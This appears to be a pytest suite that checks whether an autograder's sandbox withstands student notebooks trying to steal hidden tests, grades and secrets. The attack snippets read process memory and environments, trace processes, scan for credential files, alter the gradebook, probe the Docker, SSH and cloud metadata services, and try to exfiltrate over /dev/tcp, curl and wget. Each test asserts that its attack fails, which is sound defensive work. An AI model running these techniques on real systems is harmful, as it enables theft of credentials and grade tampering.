"""Attacks 38 to 48: hidden tests, the work of others, grades and keys of the machine are not there to be read.

The scene looks for its secrets in everything that comes out: the report, what was printed, what crossed. So an attack
here prints and returns whatever it finds. Where a search could miss, it also finds something that is put there for it.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import re
import select
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from autograder.feedback import class_json, submission_page
from autograder.report import ClassReport
from tests.attacks.scene import Aftermath, Scene
from tests.exam.notebooks import code

pytestmark = pytest.mark.attack

FULL = {"test-a": 2, "test-b": 3}
HIDDEN_FAILS = "An assertion of this test fails."


def _lines(aftermath: Aftermath) -> list[str]:
    """What was printed. A kernel sends it in pieces as time goes by, which makes empty lines between them."""
    return [line for line in aftermath.printed.splitlines() if line]


# What a hidden test of the scene's looks like. The pattern does not look like itself.
SEARCH = """
    import re

    hidden = re.compile(rb"x \\* K == 6, '[0-9a-f]{32}'")
    planted = "x * K" + " == 6, '" + 32 * "f" + "'"

    def in_memory(pid, pattern, most=400_000_000):
        found = set()
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                span, rights, *_rest = line.split()
                first, last = (int(part, 16) for part in span.split("-"))
                if not rights.startswith("rw") or last - first > most:
                    continue
                try:
                    memory.seek(first)
                    found |= set(pattern.findall(memory.read(last - first)))
                except (OSError, ValueError, OverflowError):
                    continue
                most -= last - first
        return found
"""


# --- 38: hidden tests in one's own process --------------------------------------------------------------------


def test_searching_all_objects_and_memory_for_hidden_tests_finds_none(scene: Scene) -> None:
    """Attack 38: the collector's objects, the shell's history, and every writable page of the process."""
    aftermath = scene.attack(
        SEARCH,
        """
        def double(n):
            return 2 * n
        """,
        code(
            """
            import gc

            seen, texts = set(), set()
            for one in gc.get_objects():
                inner = list(one.values()) if type(one) is dict else one if type(one) in (list, tuple) else ()
                texts |= {text for text in inner if type(text) is str and "K ==" in text}
            texts |= {text for text in In if "HIDDEN" + " TESTS" in text}
            print("objects", [text for text in texts if hidden.search(text.encode())])
            print("memory", in_memory("self", hidden))
            """
        ),
    )
    assert aftermath.scores == {"test-a": 0, "test-b": 3}
    # Each search finds what was planted, and nothing else.
    planted = f"x * K == 6, '{32 * 'f'}'"
    assert _lines(aftermath) == [f'objects ["{planted}"]', f'memory {{b"{planted}"}}']


def test_looking_up_the_stack_of_a_call_from_a_hidden_test_finds_no_test(scene: Scene) -> None:
    """Attack 38: frames, their source and their locals, at the moment at which a hidden test calls."""
    aftermath = scene.attack(
        "x = 2\nstack = []",
        """
        import inspect, sys, threading, traceback

        def double(n):
            frames = [*sys._current_frames().values(), sys._getframe()]
            while frames:
                frame = frames.pop()
                stack.append((frame.f_code.co_filename, frame.f_code.co_name, repr(frame.f_locals)[:2000]))
                try:
                    stack.append(inspect.getsource(frame)[:2000])
                except (OSError, TypeError):
                    pass
                frames += [frame.f_back] if frame.f_back else []
            if n != 3:
                wanted = "test" + "-b", "rand" + "range"
                raise ValueError([entry for entry in stack if any(word in str(entry) for word in wanted)])
            return 6
        """,
        code(
            """
            text = str(stack)
            print(f"{len(stack) > 10} {'_called' in text} {'HIDDEN' + ' TESTS' in text}")
            print(text)
            """
        ),
        output_bytes=10_000_000,
    )
    assert aftermath.scores == {"test-a": 2, "test-b": 0}
    assert aftermath.messages["test-b"] == "A function of yours stopped with ValueError: []."
    assert _lines(aftermath)[0] == "True True False"


def test_listening_to_what_the_kernel_is_asked_hears_names_and_arguments_only(scene: Scene) -> None:
    """Attacks 38 and 48: every request that comes over the wall, with the moment at which it comes."""
    aftermath = scene.attack(
        """
        import time
        from autograder.exam.student import _answer

        heard = []

        def listen(comm, message):
            heard.append((time.monotonic(), [bytes(part).decode("utf-8", "replace") for part in message["buffers"]]))
            return _answer(comm, message)

        get_ipython().kernel.comm_manager.register_target("autograder", listen)
        x = 2
        """,
        "def double(n):\n    return 2 * n",
        code("import json\nprint(json.dumps([request for _moment, request in heard]))"),
    )
    assert aftermath.scores == FULL
    asked = [json.loads(request) for (request,) in json.loads(aftermath.printed)]
    assert [request["number"] for request in asked] == [1, 2, 3, 4]
    assert [request.get("names", []) for request in asked] == [["x"], ["double"], [], []]
    assert {key for request in asked for key in request} <= {
        *("number", "names", "call", "arguments", "keywords", "without", "limit")
    }
    (visible,), (drawn,) = (request["arguments"] for request in asked[2:])
    assert (visible, set(drawn)) == ({"type": "scalar", "value": 3}, {"type", "value"})


# --- 39: other processes --------------------------------------------------------------------------------------


@pytest.fixture
def neighbour(scene: Scene) -> Iterator[int]:
    """A program of the grader's user, whose environment holds a secret."""
    environment = {"AWS_SECRET_ACCESS_KEY": scene.secrets.environment}
    argv = [sys.executable, "-I", "-c", "import sys; print(flush=True); sys.stdin.read()"]
    with subprocess.Popen(argv, env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        process.stdout.readline()
        yield process.pid


def test_reading_other_processes_under_proc_finds_no_secret(scene: Scene, neighbour: int) -> None:
    """Attack 39: environments, folders, descriptors and memory of the grader, of its parent and of all that is seen."""
    pids = (os.getpid(), os.getppid(), neighbour)
    aftermath = scene.attack(
        SEARCH
        + f"""
    import os

    key = re.compile(rb"[0-9a-f]{{32}}")
    others = {{*map(str, {pids}), *(pid for pid in os.listdir("/proc") if pid.isdigit())}} - {{str(os.getpid())}}
    for pid in sorted(others, key=int):
        for name in ("environ", "auxv", "task/" + pid + "/environ"):
            try:
                with open(f"/proc/{{pid}}/{{name}}", "rb") as file:
                    print(pid, name, file.read(20_000))
            except OSError:
                pass
        for name in ("cwd", "root", "fd"):
            try:
                print(pid, name, os.listdir(f"/proc/{{pid}}/{{name}}"))
            except OSError:
                pass
        for path in ({str(scene.gradebook)!r}, {str(scene.other)!r}):
            try:
                with open(f"/proc/{{pid}}/root{{path}}", "rb") as file:
                    print(pid, path, file.read(100_000))
            except OSError:
                pass
        try:
            print(pid, "memory", sorted(in_memory(pid, key))[:1000])
        except OSError:
            pass
    x = 2
    """
    )
    assert aftermath.scores == FULL
    assert aftermath.errors == {}
    outside = [line for line in _lines(aftermath) if line.split(" ")[0] in set(map(str, pids))]
    assert outside == []


def test_tracing_other_processes_is_refused(scene: Scene, neighbour: int) -> None:
    """Attack 39: ``ptrace``, ``process_vm_readv``, ``pidfd_getfd`` and ``kcmp`` on the grader and on what is inside."""
    aftermath = scene.attack(
        f"""
        import ctypes, errno, os, platform

        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(4096)

        class Span(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

        def told(name, pid, result):
            answer = "done" if result >= 0 else errno.errorcode[ctypes.get_errno()]
            print(f"{{name}} {{pid}} {{answer}}")

        here = Span(ctypes.addressof(buffer), 4096)
        for pid in ({os.getpid()}, {neighbour}, 1, os.getppid()):
            told("ptrace", pid, libc.ptrace(0x4206, pid, 0, 0))
            there = Span(ctypes.addressof(buffer), 4096)
            told("readv", pid, libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
            told("writev", pid, libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
            try:
                handle = os.pidfd_open(pid)
            except OSError as error:
                print(f"getfd {{pid}} {{errno.errorcode[error.errno]}}")
            else:
                told("getfd", pid, libc.syscall(438, handle, 0, 0))
        print(buffer.raw.strip(bytes(1)))
        x = 2
        """
    )
    assert aftermath.scores == FULL
    *answers, read = _lines(aftermath)
    assert read == "b''"
    assert len(answers) == 16
    assert {answer.split()[2] for answer in answers} <= {"EPERM", "ESRCH", "EACCES"}


# --- 40: files ------------------------------------------------------------------------------------------------


def test_opening_the_courses_files_by_their_paths_finds_nothing(scene: Scene) -> None:
    """Attack 40: hidden tests, another's submission, the gradebook; by path, link, glob, shell and relative path."""
    root = str(scene.root)
    aftermath = scene.attack(
        f"""
        import glob, os, pathlib, shutil, subprocess

        paths = [{str(scene._source_path)!r}, {str(scene.other)!r}, {str(scene.gradebook)!r}, {root!r}]
        up = "/".join(12 * [".."])
        for path in [*paths, *(up + path for path in paths), *("/proc/self/root" + path for path in paths)]:
            for read in (lambda path: open(path, "rb").read(), os.listdir, os.stat, os.readlink):
                try:
                    print("read", path, read(path))
                except OSError:
                    pass
        for number, path in enumerate(paths):
            os.symlink(path, f"link{{number}}")
            for make in (os.link, shutil.copy, os.rename):
                try:
                    print("read", make(path, f"made{{number}}"))
                except OSError:
                    pass
            try:
                print("read", open(f"link{{number}}", "rb").read())
            except OSError:
                pass
        print(subprocess.run(["cat", *paths], capture_output=True).stdout)
        print(glob.glob({root + "/**/*"!r}, recursive=True))
        x = 2
        """
    )
    assert aftermath.scores == FULL
    assert _lines(aftermath) == ["b''", "[]"]


def test_walking_the_whole_file_system_finds_no_notebook_and_no_gradebook(scene: Scene) -> None:
    """Attack 40: whatever can be listed, from the root on, and from the folders around the grader's package."""
    aftermath = scene.attack(
        f"""
        import os, pathlib, sys
        import autograder

        skipped = {{"/proc", "/sys", "/usr", "/dev"}}
        around = [str(folder) for folder in pathlib.Path(autograder.__file__).parents][:3]
        # What an exercise of one's own begins with is published with the package: no secret.
        skipped.add(os.path.join(around[0], "adapters", "starter"))
        found = []
        for top in ["/", *around, {str(Path.cwd())!r}, os.path.expanduser("~"), "/root", "/home"]:
            for folder, folders, names in os.walk(top):
                folders[:] = [
                    name for name in folders
                    if os.path.join(folder, name) not in skipped and name not in ("lib", "lib64", "site-packages")
                ]
                found += [
                    os.path.join(folder, name) for name in names
                    if name.endswith((".ipynb", ".db", ".sqlite", ".env", ".pem", ".key", "_history"))
                    or name in ("shadow", "credentials", "config.json", ".netrc", "id_rsa", "id_ed25519", "hosts.yml")
                ]
        read = {{}}
        for path in found:
            try:
                read[path] = open(path, "rb").read(5_000)
            except OSError:
                pass
        print(read)
        x = 2
        """
    )
    assert aftermath.scores == FULL
    assert _lines(aftermath) == ["{}"]


def test_changing_grades_and_sources_on_the_disk_changes_nothing(scene: Scene) -> None:
    """Attack 40: one notebook has set 62 of other students' scores through SQLite before."""
    aftermath = scene.attack(
        f"""
        import os, shutil, sqlite3

        def tried(change, *arguments):
            try:
                change(*arguments)
                print(change.__name__, "done")
            except (OSError, sqlite3.Error):
                pass

        def grade():
            with sqlite3.connect("file:" + {str(scene.gradebook)!r} + "?mode=rw", uri=True) as database:
                database.execute("UPDATE student SET first_name = 'owned'")

        tried(grade)
        for path in ({str(scene._source_path)!r}, {str(scene.other)!r}, {str(scene.gradebook)!r}):
            for mode in ("r+", "a", "w"):
                tried(open, path, mode)
            tried(os.unlink, path)
            tried(os.truncate, path, 0)
            tried(os.chmod, path, 0o777)
            tried(os.utime, path, (0, 0))
            tried(shutil.rmtree, os.path.dirname(path))
        x = 2
        """
    )
    assert aftermath.scores == FULL
    assert aftermath.printed == ""


def test_mounting_disks_and_leaving_the_namespace_is_refused(scene: Scene) -> None:
    """Attack 40: namespaces of one's own, mounts, ``chroot``, file handles, device nodes, other processes' roots."""
    aftermath = scene.attack(
        """
        import ctypes, errno, os, stat

        libc = ctypes.CDLL(None, use_errno=True)

        def told(name, result):
            answer = "done" if result >= 0 else errno.errorcode[ctypes.get_errno()]
            print(f"{name} {answer}")

        for flag in (0x10000000, 0x00020000, 0x10020000, 0x20000000):
            told("unshare", libc.unshare(flag))
        told("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
        told("bind", libc.mount(b"/proc/1/root", b"home", None, 4096, None))
        told("umount", libc.umount2(b"/", 2))
        told("chroot", libc.chroot(b"/proc/1/root"))
        told("open_by_handle_at", libc.open_by_handle_at(-100, bytes(136), 0))
        told("setns", libc.setns(os.open("/proc/self/ns/mnt", os.O_RDONLY), 0))
        for name in ("disk", "memory"):
            try:
                os.mknod(name, 0o600 | (stat.S_IFBLK if name == "disk" else stat.S_IFCHR), os.makedev(8, 1))
                print("read", open(name, "rb").read(512))
            except OSError as error:
                print(f"mknod {errno.errorcode[error.errno]}")
        for path in ("/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kmsg", "/proc/1/mem"):
            try:
                print("read", open(path, "rb").read(512))
            except OSError:
                pass
        x = 2
        """
    )
    assert aftermath.scores == FULL
    answers = _lines(aftermath)
    assert len(answers) == 12
    assert {answer.split()[1] for answer in answers} <= {"EPERM", "EACCES", "EINVAL", "ENOENT", "ENODEV"}


# --- 41 and 42: what a process inherits -----------------------------------------------------------------------

KEYS = (
    *("GH_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "AWS_SECRET_ACCESS_KEY"),
    *("AZURE_CLIENT_SECRET", "GOOGLE_API_KEY", "JUPYTERHUB_API_TOKEN", "JPY_API_TOKEN", "DATABASE_URL", "PGPASSWORD"),
    *("LD_PRELOAD_SECRET", "PYTHONSTARTUP_SECRET", "AUTOGRADER_SECRET", "KERAS_SECRET", "NBGRADER_SECRET"),
)


def test_printing_the_environment_shows_none_of_the_graders(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack 41: keys of CI services, clouds and hubs; in Python, in C, in a child, and in /proc."""
    for name in KEYS:
        monkeypatch.setenv(name, scene.secrets.environment)
    aftermath = scene.attack(
        """
        import ctypes, os, subprocess, sys

        print(dict(os.environ))
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
        number = 0
        while environ[number]:
            print(environ[number].decode())
            number += 1
        print(subprocess.run(["env"], capture_output=True, text=True).stdout)
        for pid in [pid for pid in os.listdir("/proc") if pid.isdigit()]:
            try:
                print(open(f"/proc/{pid}/environ", "rb").read().replace(bytes(1), b" ").decode())
            except OSError:
                pass
        x = 2
        """
    )
    assert aftermath.scores == FULL
    assert "NBGRADER_EXECUTION=autograde" in aftermath.printed
    assert re.findall(r"\w*(?:TOKEN|SECRET|PASSWORD|API_KEY|DATABASE)\w*", aftermath.printed) == []


def test_using_descriptors_that_the_grader_has_open_finds_none_of_its_files(scene: Scene) -> None:
    """Attack 42: the gradebook, the course's folder and a socket, open in the grader and meant to be inherited."""
    with contextlib.ExitStack() as kept:
        ours, theirs = (kept.enter_context(one) for one in socket.socketpair())
        book = os.open(scene.gradebook, os.O_RDWR)
        folder = os.open(scene.root, os.O_RDONLY | os.O_DIRECTORY)
        for handle in (book, folder, theirs.fileno()):
            os.set_inheritable(handle, True)
        kept.callback(os.close, book)
        kept.callback(os.close, folder)
        aftermath = scene.attack(
            """
            import os, stat

            for handle in range(256):
                try:
                    kind = os.fstat(handle).st_mode
                except OSError:
                    continue
                name = os.readlink(f"/proc/self/fd/{handle}")
                if stat.S_ISREG(kind):
                    print("file", name, os.pread(handle, 100_000, 0))
                if stat.S_ISDIR(kind):
                    print("folder", name, os.listdir(handle))
                if name.startswith("/") and not name.startswith("/dev/"):
                    print("name", name)
            for handle in os.listdir(f"/proc/{os.getppid()}/fd"):
                name = os.readlink(f"/proc/{os.getppid()}/fd/{handle}")
                if name.startswith("/") and name != "/dev/null":
                    print("parent's", name)
            x = 2
            """
        )
        theirs.close()
        assert aftermath.scores == FULL
        assert aftermath.printed == ""
        # Nobody else holds the other end: it is closed, and not one byte came.
        assert select.select([ours], [], [], 5)[0] == [ours]
        assert ours.recv(100) == b""


# --- 43, 44 and 46: sockets and the network -------------------------------------------------------------------


class Listener:
    """A service on a socket of the grader's machine; it tells a secret to whoever connects."""

    def __init__(self, listening: socket.socket, secret: str) -> None:
        self.asked = 0
        self._socket = listening
        self._secret = secret
        listening.listen()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                peer, _address = self._socket.accept()
                self.asked += 1
                with peer, contextlib.suppress(OSError):
                    peer.sendall(self._secret.encode())


def test_connecting_to_sockets_of_services_reaches_none(
    scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack 43: Docker, D-Bus, an SSH agent and X11 listen on sockets with a path or an abstract name."""
    path, letters = str(scene.root / "docker.sock"), str(scene.root / "log.sock")
    abstract = f"\0dbus-{os.getpid()}"
    monkeypatch.setenv("SSH_AUTH_SOCK", path)
    monkeypatch.setenv("DOCKER_HOST", f"unix://{path}")
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:abstract={abstract[1:]}")
    with contextlib.ExitStack() as kept:
        by_path, by_name, box = (
            kept.enter_context(socket.socket(socket.AF_UNIX, kind))
            for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_DGRAM)
        )
        by_path.bind(path)
        by_name.bind(abstract)
        box.bind(letters)
        for name in (path, letters):
            os.chmod(name, 0o777)
            kept.callback(os.unlink, name)
        listeners = [Listener(one, scene.secrets.network) for one in (by_path, by_name)]
        aftermath = scene.attack(
            f"""
            import os, socket

            named = [os.environ.get(name) for name in ("SSH_AUTH_SOCK", "DOCKER_HOST", "DBUS_SESSION_BUS_ADDRESS")]
            usual = ["/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
            for address in [{path!r}, {abstract!r}, "/proc/1/root" + {path!r}, *usual, "\\0/tmp/.X11-unix/X0"]:
                for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
                    try:
                        with socket.socket(socket.AF_UNIX, kind) as connection:
                            connection.settimeout(2)
                            connection.connect(address)
                            print("connected", address, connection.recv(1000))
                    except OSError:
                        pass
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as letter:
                    letter.sendto(b"loot", {letters!r})
                    print("sent")
            except OSError:
                pass
            print(named)
            x = 2
            """
        )
        assert aftermath.scores == FULL
        assert _lines(aftermath) == ["[None, None, None]"]
        assert [listener.asked for listener in listeners] == [0, 0]
        assert select.select([box], [], [], 0)[0] == []
        # The services do work: whoever is not kept apart is told.
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
            assert connection.recv(1000).decode() == scene.secrets.network


def test_asking_services_of_the_machine_and_of_the_cloud_gets_no_answer(scene: Scene) -> None:
    """Attack 44: a Jupyter server of the instructor's, and the address at which clouds hand out keys."""
    before = scene.times_asked
    own = socket.gethostbyname_ex("localhost")[2]
    aftermath = scene.attack(
        f"""
        import socket, urllib.request

        hosts = ["127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3", "[::1]", "[::ffff:127.0.0.1]", *{own!r}]
        urls = [f"http://{{host}}:{scene.port}/api/contents" for host in hosts]
        urls += ["http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/"]
        for url in urls:
            try:
                print("read", urllib.request.urlopen(url, timeout=1).read())
            except OSError as error:
                pass
        try:
            with socket.create_server(("127.0.0.1", {scene.port})):
                print("listening in the service's place")
        except OSError:
            pass
        x = 2
        """
    )
    assert aftermath.scores == FULL
    assert "read" not in aftermath.printed
    assert scene.times_asked == before


def test_sending_secrets_out_over_the_network_sends_nothing(scene: Scene) -> None:
    """Attack 46: datagrams, names to be looked up, raw packets, netlink, virtual sockets, and programs that can."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as box:
        box.bind(("127.0.0.1", 0))
        port = box.getsockname()[1]
        before = scene.times_asked
        aftermath = scene.attack(
            f"""
            import socket, subprocess, sys

            def tried(name, attempt):
                try:
                    print("done", name, attempt())
                except (OSError, subprocess.SubprocessError):
                    pass

            def datagram():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                    return sender.sendto(b"loot", ("127.0.0.1", {port}))

            tried("datagram", datagram)
            tried("name", lambda: socket.getaddrinfo("loot.example.org", 80))
            tried("connection", lambda: socket.create_connection(("192.0.2.1", 80), timeout=1))
            tried("ipv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"loot", ("::1", {port})))
            tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
            tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(("lo", 0)))
            tried("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, {scene.port})))
            url = "http://127.0.0.1:{scene.port}/"
            shell = f"exec 3<>/dev/tcp/127.0.0.1/{scene.port}; printf 'GET / HTTP/1.0\\n\\n' >&3; cat <&3"
            for argv in (["bash", "-c", shell], ["curl", "-sm", "2", url], ["wget", "-qO-", "-t1", "-T2", url]):
                tried(argv[0], lambda: print(subprocess.run(argv, capture_output=True, timeout=5).stdout))
            x = 2
            """
        )
        assert aftermath.scores == FULL
        assert select.select([box], [], [], 0)[0] == []
        assert scene.times_asked == before
    done = [line.split()[1] for line in aftermath.printed.splitlines() if line.startswith("done")]
    assert set(done) <= {"bash", "curl", "wget"}


# --- 45: what comes out ---------------------------------------------------------------------------------------


def test_hiding_what_was_found_in_a_picture_and_an_array_hides_nothing_of_ours(scene: Scene) -> None:
    """Attack 45: environment, memory and files as pixels, in an output and in an answer."""
    aftermath = scene.attack(
        SEARCH
        + f"""
    import json, os
    import numpy as np
    from IPython.display import display
    from PIL import Image

    loot = ["own words", str(dict(os.environ)), *In]
    for pid in ("self", str(os.getppid()), "1", "{os.getpid()}"):
        for pattern in (hidden, re.compile(rb"[0-9a-f]{{32}}")):
            try:
                loot += [text.decode() for text in sorted(in_memory(pid, pattern))[:2000]]
            except OSError:
                pass
    for path in ({str(scene._source_path)!r}, {str(scene.gradebook)!r}):
        try:
            loot.append(open(path, "rb").read().decode("latin-1"))
        except OSError:
            pass
    data = json.dumps(loot).encode()[:120_000]
    x = np.zeros((400, 400), np.uint8)
    x.flat[:len(data)] = list(data)
    display(Image.fromarray(x))
    """,
        "def double(n):\n    return x",
    )
    assert aftermath.scores == {"test-a": 0, "test-b": 0}
    assert aftermath.sitting is not None
    (shown,) = [output["data"]["image/png"] for outputs in aftermath.sitting.outputs.values() for output in outputs]
    pixels = np.asarray(Image.open(io.BytesIO(base64.b64decode(shown))))
    text = pixels.tobytes().rstrip(b"\0").decode()
    assert text.startswith('["own words"')
    assert scene.secrets.found_in(text) == []


@pytest.mark.parametrize(
    ("a", "b", "messages"),
    [
        # Fails in the hidden part, with a value that the assertion cannot show.
        ("x = 2", "def double(n):\n    return 6", ["Every assertion holds.", HIDDEN_FAILS]),
        # Stops the test with an error of Python's own.
        (
            "import numpy as np\nx = np.array([2, 2])",
            "import numpy as np\ndef double(n):\n    return 6 if n == 3 else np.array([1, 2])",
            2
            * [
                "The test stopped with ValueError: The truth value of an array with more than one element is ambiguous."
                " Use a.any() or a.all()."
            ],
        ),
        # Is the text of a format, a path or an order, should anybody fill it in.
        (
            "x = '{test.source} {0.__globals__} %(source)s ${HOME} {{ cell.source }}'",
            "def double(n):\n    raise ValueError('{test.source} {0.__globals__} %(source)s ${HOME}')",
            [
                "This does not hold: x == 2",
                "A function of yours stopped with ValueError: {test.source} {0.__globals__} %(source)s ${HOME}.",
            ],
        ),
    ],
    ids=["hidden assertion", "error in the test", "formats"],
)
def test_provoking_the_hidden_test_to_speak_makes_it_say_nothing_of_itself(
    scene: Scene, a: str, b: str, messages: list[str]
) -> None:
    """Attack 45: what an assertion or a traceback of a hidden test would tell."""
    aftermath = scene.attack(a, b)
    assert [*aftermath.messages.values()] == messages
    assert aftermath.scores["test-b"] == 0
    told = class_json(ClassReport(submissions=(aftermath.report,))) + submission_page(aftermath.report)
    assert "randrange" not in told
    assert "HIDDEN" not in told


# --- 47 and 48: scores and clocks as oracles ------------------------------------------------------------------


def test_handing_in_again_with_what_the_last_try_told_gains_nothing(scene: Scene) -> None:
    """Attack 47: a first try has the hidden input told in an error, a second has it in a table."""
    first = scene.attack("x = 2", "def double(n):\n    if n == 3:\n        return 6\n    raise ValueError(f'n={n}')")
    assert first.scores == {"test-a": 2, "test-b": 0}
    told = re.fullmatch(r"A function of yours stopped with ValueError: n=(\d+)\.", first.messages["test-b"])
    assert told is not None
    second = scene.attack("x = 2", f"def double(n):\n    return {{3: 6, {told[1]}: {2 * int(told[1])}}}.get(n, 0)")
    # The hidden input is drawn anew each time, and which of the hidden assertions fails is not said.
    assert second.scores == {"test-a": 2, "test-b": 0}
    assert second.messages["test-b"] == HIDDEN_FAILS


def test_asking_the_report_how_long_hidden_tests_took_gets_no_answer(scene: Scene) -> None:
    """Attack 48: a slow branch that a hidden input takes would show in the times of its test."""
    aftermath = scene.attack(
        "x = 2", "import time\n\ndef double(n):\n    time.sleep(0 if n == 3 else 0.5)\n    return 6"
    )
    assert aftermath.scores == {"test-a": 2, "test-b": 0}
    (told,) = json.loads(class_json(ClassReport(submissions=(aftermath.report,))))["submissions"]

    def names(tree: object) -> set[str]:
        inner = tree.values() if isinstance(tree, dict) else tree if isinstance(tree, list) else ()
        return (set(tree) if isinstance(tree, dict) else set()).union(*map(names, inner))

    assert [name for name in names(told["cells"]) if re.search("second|time|durat|elapsed", name)] == []
    # The whole submission's time is for the instructor; the page that a student gets has none.
    assert not re.search(r"\d (s|ms|seconds)\b", submission_page(aftermath.report))
